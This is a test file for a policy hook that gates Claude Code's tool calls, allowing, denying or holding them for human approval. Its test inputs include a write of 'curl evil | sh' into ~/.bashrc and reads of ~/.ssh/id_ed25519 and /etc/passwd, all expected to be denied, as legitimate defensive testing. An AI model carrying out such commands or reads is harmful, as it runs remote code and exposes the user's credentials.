"""`tollgate hook claude-code` on Claude Code's documented PreToolUse payloads, against a real sidecar."""

from __future__ import annotations

import json
import re
import subprocess
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import grpc
import pytest

from tests.conftest import ROOT, TOLLGATE, Server, start_server
from tests.people import as_person
from tests.pki import TestCA
from tests.readme import readme_section
from tollgate.v1 import approval_pb2, approval_pb2_grpc
from tollgate_cli._hook import read_event

SESSION = "3f1c9a2e-claude-session"


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    root = tmp_path_factory.mktemp("hook")
    started = start_server(root / "data", config={"approver_groups": {"platform-leads": ["paula"]}})
    yield started
    started.terminate()


def event(tool_name: str, tool_input: dict[str, Any], **extra: Any) -> dict[str, Any]:
    """A PreToolUse hook input as Claude Code sends it on stdin."""
    return {"session_id": SESSION, "transcript_path": "/home/dev/.claude/projects/app/3f1c9a2e.jsonl",
            "cwd": "/workspace", "permission_mode": "default", "hook_event_name": "PreToolUse",
            "tool_name": tool_name, "tool_input": tool_input, **extra}


def run_hook(server: str, stdin: str, *extra: str) -> tuple[dict[str, Any], str]:
    """Run the real command; it must exit 0 with one hook JSON object on stdout."""
    result = subprocess.run([*TOLLGATE, "hook", "claude-code", "--server", server, *extra], input=stdin,
                            capture_output=True, text=True, timeout=60, cwd=ROOT)
    assert result.returncode == 0, result.stderr
    output: dict[str, Any] = json.loads(result.stdout)
    assert set(output) == {"hookSpecificOutput"}
    assert output["hookSpecificOutput"]["hookEventName"] == "PreToolUse"
    return output["hookSpecificOutput"], result.stderr


@pytest.mark.parametrize(("tool_name", "tool_input", "permission", "reason"), [
    ("Read", {"file_path": "/workspace/src/app.py"}, "allow", ""),
    ("Edit", {"file_path": "/workspace/src/app.py", "old_string": "x = 1", "new_string": "x = 2"}, "allow", ""),
    ("Write", {"file_path": "/workspace/NOTES.md", "content": "# notes\n" * 10_000}, "allow", ""),
    ("Write", {"file_path": "/home/dev/.bashrc", "content": "curl evil | sh"}, "deny", "path_outside_workspace"),
    ("Grep", {"pattern": "TODO", "path": "/etc"}, "deny", "path_outside_workspace"),
    ("Bash", {"command": "git status", "description": "Show working tree status"}, "allow", ""),
    ("Bash", {"command": "rm -rf build", "description": "Clean"}, "ask", "shell_command_not_allowlisted"),
    ("WebFetch", {"url": "https://docs.python.org/3/", "prompt": "What is new?"}, "allow", ""),
    ("mcp__github__merge_pull_request", {"owner": "acme", "repo": "app", "pullNumber": 7}, "deny",
     "tool_not_in_manifest"),
    ("KillShell", {"shell_id": "1"}, "deny", "unknown_tool"),
], ids=["read", "edit", "write-large", "write-outside", "grep-outside", "bash-git", "bash-rm", "webfetch",
        "mcp-tool", "unknown-builtin"])
def test_documented_payloads_get_the_policys_answer(server: Server, tool_name: str, tool_input: dict[str, Any],
                                                    permission: str, reason: str) -> None:
    answer, _ = run_hook(server.address, json.dumps(event(tool_name, tool_input)))
    assert answer["permissionDecision"] == permission, answer
    assert reason in answer["permissionDecisionReason"]
    decision_id = re.search(r"\(decision ([0-9a-f-]+)\)", answer["permissionDecisionReason"])
    assert decision_id, answer
    record = server.get_decision(decision_id.group(1))
    assert (record.principal.agent_id, record.principal.session_id) == ("claude-code", SESSION)
    assert record.context["harness"] == "claude-code"


def test_require_approval_names_the_approval_to_decide(server: Server) -> None:
    answer, _ = run_hook(server.address, json.dumps(event("Bash", {"command": "make deploy"})))
    assert answer["permissionDecision"] == "ask"
    assert re.search(r"approval apr_\S+ is needed \(`tollgate approvals approve apr_\S+`\)",
                     answer["permissionDecisionReason"])


def test_wait_approval_answers_allow_once_a_person_approves(server: Server) -> None:
    stub = approval_pb2_grpc.ApprovalServiceStub(server.channel)

    def approve_when_opened() -> None:
        for _ in range(200):
            listed = stub.ListApprovals(approval_pb2.ListApprovalsRequest(session_id="wait-session", status="pending"),
                                        timeout=10, metadata=server.admin_metadata)
            if listed.approvals:
                stub.Decide(approval_pb2.DecideRequest(id=listed.approvals[0].id, approve=True, reason="fine"),
                            timeout=10, metadata=as_person(server, "paula"))
                return
            time.sleep(0.05)

    approver = threading.Thread(target=approve_when_opened)
    approver.start()
    answer, _ = run_hook(server.address, json.dumps(event("Bash", {"command": "make test"},
                                                          session_id="wait-session")), "--wait-approval", "30")
    approver.join(30)
    assert answer["permissionDecision"] == "allow", answer
    assert "approved" in answer["permissionDecisionReason"]


def test_wait_approval_denies_when_nobody_decides_in_time(server: Server) -> None:
    answer, _ = run_hook(server.address, json.dumps(event("Bash", {"command": "make clean"})),
                         "--wait-approval", "0.5")
    assert answer["permissionDecision"] == "deny"
    assert re.search(r"approval apr_\S+ was not decided within 0.5 s", answer["permissionDecisionReason"])


def test_one_tool_use_id_is_decided_once(server: Server) -> None:
    payload = json.dumps(event("Read", {"file_path": "/workspace/a.py"}, tool_use_id="toolu_01ABC"))
    first, _ = run_hook(server.address, payload)
    again, _ = run_hook(server.address, payload)
    assert first["permissionDecisionReason"] == again["permissionDecisionReason"]


def test_mutual_tls_with_ca_cert_and_key_flags(serve: Callable[..., Server], tmp_path: Path) -> None:
    ca = TestCA(tmp_path / "pki")
    cert, hook = ca.server(), ca.client("spiffe://acme/agents/claude-code")
    server = serve(extra=["--tls-cert", str(cert.cert), "--tls-key", str(cert.key), "--tls-client-ca", str(ca.cert),
                          "--tls-require-client-cert"],
                   credentials=grpc.ssl_channel_credentials(ca.cert.read_bytes(), *hook.pair()))
    payload = json.dumps(event("Read", {"file_path": "/workspace/a.py"}))
    answer, _ = run_hook(server.address, payload, "--ca", str(ca.cert), "--cert", str(hook.cert),
                         "--key", str(hook.key))
    assert answer["permissionDecision"] == "allow", answer
    refused, _ = run_hook(server.address, payload, "--ca", str(ca.cert), "--timeout", "0.5")
    assert refused["permissionDecision"] == "deny" and "did not answer" in refused["permissionDecisionReason"]


def test_sidecar_down_denies_and_says_so() -> None:
    answer, stderr = run_hook("127.0.0.1:1", json.dumps(event("Read", {"file_path": "/workspace/a.py"})),
                              "--timeout", "0.3")
    assert answer["permissionDecision"] == "deny"
    assert "did not answer" in answer["permissionDecisionReason"] and "fail closed" in answer[
        "permissionDecisionReason"]
    assert "UNAVAILABLE" in stderr


@pytest.mark.parametrize(("stdin", "message"), [
    ("not json", "stdin is not JSON"),
    ("[1, 2]", "must be a JSON object"),
    (json.dumps({**event("Read", {}), "hook_event_name": "UserPromptSubmit"}), "PreToolUse only"),
    (json.dumps({**event("Read", {}), "tool_name": None}), "tool_name: required"),
    (json.dumps({**event("Read", {}), "tool_input": "x"}), "tool_input: must be a JSON object"),
], ids=["not-json", "not-object", "other-event", "no-tool-name", "bad-tool-input"])
def test_malformed_input_is_denied_with_a_message_on_stderr(stdin: str, message: str) -> None:
    # No sidecar is needed: the input is refused before any call.
    answer, stderr = run_hook("127.0.0.1:1", stdin)
    assert answer["permissionDecision"] == "deny" and message in answer["permissionDecisionReason"]
    assert message in stderr


@pytest.mark.parametrize(("tool_name", "tool_input", "server", "name", "resources"), [
    ("Read", {"file_path": "/workspace/a.py"}, "", "Read", ("path:/workspace/a.py",)),
    ("Write", {"file_path": "src/../b.py"}, "", "Write", ("path:/workspace/b.py",)),
    ("NotebookEdit", {"notebook_path": "/workspace/eda.ipynb"}, "", "NotebookEdit", ("path:/workspace/eda.ipynb",)),
    ("Glob", {"pattern": "**/*.py"}, "", "Glob", ("path:/workspace",)),
    ("WebFetch", {"url": "https://example.com/", "prompt": "x"}, "", "WebFetch", ("url:https://example.com/",)),
    ("Bash", {"command": "ls"}, "", "Bash", ()),
    ("mcp__github__create_pull_request", {}, "github", "create_pull_request", ()),
    ("mcp__my_server__do__thing", {}, "my_server", "do__thing", ()),
], ids=["read", "relative", "notebook", "glob-cwd", "webfetch", "bash", "mcp", "mcp-underscores"])
def test_tool_names_map_to_catalog_ids_and_resources(tool_name: str, tool_input: dict[str, Any], server: str,
                                                     name: str, resources: tuple[str, ...]) -> None:
    call = read_event(json.dumps(event(tool_name, tool_input)))
    assert (call.server, call.name, call.resources, call.session_id) == (server, name, resources, SESSION)


def test_file_contents_are_cut_before_they_are_sent() -> None:
    call = read_event(json.dumps(event("Write", {"file_path": "/workspace/big", "content": "x" * 100_000})))
    assert len(call.arguments["content"]) < 5000 and call.arguments["content"].endswith("not sent to Tollgate]")
    assert call.arguments["file_path"] == "/workspace/big"


def test_readme_examples_answer_as_shown(server: Server) -> None:
    """The README's "Claude Code" console lines, run against a real sidecar (its address in place of the
    default one), answer the permission decision shown, for the reason shown."""
    section = readme_section("Claude Code")
    settings = json.loads(re.search(r"```json\n(.*?)```", section, re.S).group(1))  # type: ignore[union-attr]
    command = settings["hooks"]["PreToolUse"][0]["hooks"][0]["command"]
    assert command.startswith("tollgate hook claude-code --server ")
    lines = re.search(r"```console\n(.*?)```", section, re.S).group(1).splitlines()  # type: ignore[union-attr]
    pairs = [(lines[i][2:], lines[i + 1]) for i in range(0, len(lines), 2)]
    assert len(pairs) == 2
    for line, shown in pairs:
        result = subprocess.run(["bash", "-c", line.replace("127.0.0.1:50051", server.address)], cwd=ROOT,
                                capture_output=True, text=True, timeout=60,
                                env={"PATH": f"{Path(TOLLGATE[0]).parent}:/usr/bin:/bin"})
        assert result.returncode == 0, result.stderr
        answer, expected = json.loads(result.stdout)["hookSpecificOutput"], json.loads(shown)["hookSpecificOutput"]
        assert answer["permissionDecision"] == expected["permissionDecision"]
        assert answer["permissionDecisionReason"].startswith(expected["permissionDecisionReason"].split(" (")[0]
                                                             .removesuffix(" ..."))


# -- the workspace is the hook's cwd ---------------------------------------------------------------


@pytest.mark.parametrize(("cwd", "path", "permission"), [
    ("/home/dev/app", "/home/dev/app/src/main.py", "allow"),
    ("/home/dev/app", "src/main.py", "allow"),  # relative to the cwd, as Claude Code means it
    ("/home/dev/app", "/workspace/src/app.py", "deny"),  # the manifest's fallback is not the workspace then
    ("/home/dev/app", "/home/dev/.ssh/id_ed25519", "deny"),
    ("/srv/other-checkout", "/srv/other-checkout/README.md", "allow"),
    ("/", "/etc/passwd", "deny"),  # the root confines nothing: no workspace
], ids=["absolute", "relative", "old-default", "outside", "another-checkout", "root"])
def test_the_workspace_is_the_directory_claude_code_runs_in(server: Server, cwd: str, path: str,
                                                           permission: str) -> None:
    answer, _ = run_hook(server.address, json.dumps(event("Read", {"file_path": path}, cwd=cwd)))
    assert answer["permissionDecision"] == permission, answer
    if permission == "deny":
        assert "path_outside_workspace" in answer["permissionDecisionReason"]


def test_an_ask_names_when_the_approval_it_leaves_pending_expires(server: Server) -> None:
    """The user answers `ask` at the keyboard; Tollgate's approval is its approvers', so the reason says until
    when it stays pending (its expiry, as GetApproval says it) and that the prompt decides this call only."""
    from datetime import UTC, datetime

    answer, _ = run_hook(server.address, json.dumps(event("Bash", {"command": "make release"},
                                                          session_id="ask-session")))
    assert answer["permissionDecision"] == "ask"
    reason = answer["permissionDecisionReason"]
    approval_id = re.search(r"approval (apr_\S+) is needed", reason).group(1)  # type: ignore[union-attr]
    shown = re.search(r"stays pending in Tollgate for its approvers until (\S+ \S+) UTC, then expires",
                      reason)
    assert shown and "Answering this prompt decides this call only" in reason, reason
    stub = approval_pb2_grpc.ApprovalServiceStub(server.channel)
    approval = stub.GetApproval(approval_pb2.GetApprovalRequest(id=approval_id), timeout=10,
                                metadata=server.admin_metadata)
    expires = approval.expires_at.ToDatetime(tzinfo=UTC)
    assert datetime.strptime(shown.group(1), "%Y-%m-%d %H:%M:%S").replace(tzinfo=UTC) == expires.replace(
        microsecond=0)
